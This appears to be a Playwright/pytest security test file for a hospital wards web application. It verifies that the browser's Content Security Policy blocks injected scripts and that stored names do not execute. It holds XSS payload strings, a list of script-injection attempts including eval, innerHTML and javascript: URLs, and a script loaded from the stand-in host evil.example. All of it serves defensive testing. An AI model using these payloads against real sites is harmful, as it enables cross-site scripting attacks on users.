"""In a real Chromium: what was typed into fields runs nowhere, and what should one day slip through is stopped by the
browser itself, by the headers of the page."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.conftest import fill_in_sign_in, house, sessions
from tests.stack import Stack
from tools.page_book import Booked, book, make_ready

__all__ = ["house", "sessions"]

pytestmark = pytest.mark.thorough

RUNS = '<script>window.ran="script"</script><img src=x onerror="window.ran=1"><svg onload="window.ran=2">{{7*7}}'
LONGEST = """
    SELECT character_maximum_length FROM information_schema.columns WHERE table_name = %s AND column_name = %s
"""
TYPED_INTO = (
    ("wards_patient", "given_name"),
    ("wards_staff", "first_name"),
    ("wards_ward", "name"),
    ("wards_bed", "label"),
)


@pytest.fixture(scope="module")
def pages(house: Stack) -> list[Booked]:
    with house.models():
        make_ready()
        return book()


@pytest.fixture
def page(chromium: Browser, house: Stack) -> Iterator[Page]:
    context = chromium.new_context(viewport={"width": 900, "height": 900})
    context.set_default_timeout(15_000)
    yield context.new_page()
    context.close()


def signed_in(page: Page, house: Stack, who: str) -> None:
    page.goto(f"{house.url}/sign-in/")
    fill_in_sign_in(page, who)


def said_by_the_browser(page: Page) -> list[str]:
    """From now on: whatever the browser refuses by policy, and scripts that fail."""
    said: list[str] = []
    page.on("console", lambda line: said.append(line.text) if line.type in {"error", "warning"} else None)
    page.on("pageerror", lambda fault: said.append(str(fault)))
    return said


JAVASCRIPT = "text/javascript"
OF_POLICY = (
    "Content Security Policy",
    "Content-Security-Policy",
    "Trusted",
    "Permissions",
    "Unrecognized feature",
    "blocked",
)


def test_no_page_of_ours_does_what_its_own_policy_forbids(page: Page, house: Stack, pages: list[Booked]) -> None:
    said = said_by_the_browser(page)
    signed_in(page, house, "sam")
    for booked in [booked for booked in pages if booked.who == "sam" and booked.prepare is None]:
        page.goto(house.url + booked.path)
        page.wait_for_timeout(150)
    assert [line for line in said if any(word in line for word in OF_POLICY)] == []


def written(attack: str) -> str:
    """A script that tries it, and says where that throws."""
    add = "const add = (tag, said) => document.body.appendChild(Object.assign(document.createElement(tag), said));"
    return f"try {{ {add} {attack} }} catch (e) {{ console.error('Trusted ' + e) }}"


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran=1\">')",
        "document.body.innerHTML = '<script>window.ran=1</script>'",
        "new Function('window.ran=1')()",
        "eval('window.ran=1')",
        "setTimeout('window.ran=1', 0)",
        "add('script', {textContent: 'window.ran=1'})",
        "add('script', {src: 'https://evil.example/x.js'})",
        "add('script', {src: '/static/spinewatch/common.js'})",
        "add('iframe', {srcdoc: '<script>parent.ran=1</script>'})",
        "add('a', {href: 'javascript:window.ran=1'}).click()",
        "navigator.serviceWorker.register('/static/spinewatch/common.js')",
        "document.body.setAttribute('onclick', 'window.ran=1'); document.body.click()",
    ],
)
def test_the_browser_stops_what_should_slip_through(page: Page, house: Stack, attack: str) -> None:
    """Tried by a script of the page's own, as an attack by way of ours would be: the console is not bound by policy."""
    said = said_by_the_browser(page)
    page.route("**/spinewatch/signin*.js", lambda route: route.fulfill(body=written(attack), content_type=JAVASCRIPT))
    page.goto(f"{house.url}/sign-in/")
    page.wait_for_timeout(400)
    assert page.evaluate("window.ran") is None
    assert [line for line in said if any(word in line for word in (*OF_POLICY, "evil.example"))], said


def test_what_was_typed_runs_nowhere(page: Page, house: Stack, pages: list[Booked]) -> None:
    """In the names of patients, people, wards and beds, which stand on every page."""
    for table, column in TYPED_INTO:
        house.sql(f"ALTER TABLE {table} DISABLE TRIGGER USER")
        ((longest,),) = house.sql(LONGEST, [table, column])
        house.sql(f"UPDATE {table} SET {column} = left({column} || %s, %s)", [RUNS, longest or len(RUNS) * 2])
        house.sql(f"ALTER TABLE {table} ENABLE TRIGGER USER")
    said = said_by_the_browser(page)
    for who in ("alice", "sam", "carol"):
        signed_in(page, house, who)
        for booked in [booked for booked in pages if booked.who == who and booked.prepare is None]:
            page.goto(house.url + booked.path)
            page.wait_for_timeout(120)
            assert page.evaluate("window.ran") is None, booked.name
            assert page.locator("main img[src=x], main svg[onload]").count() == 0, booked.name
        page.context.clear_cookies()
    assert [line for line in said if any(word in line for word in OF_POLICY)] == []
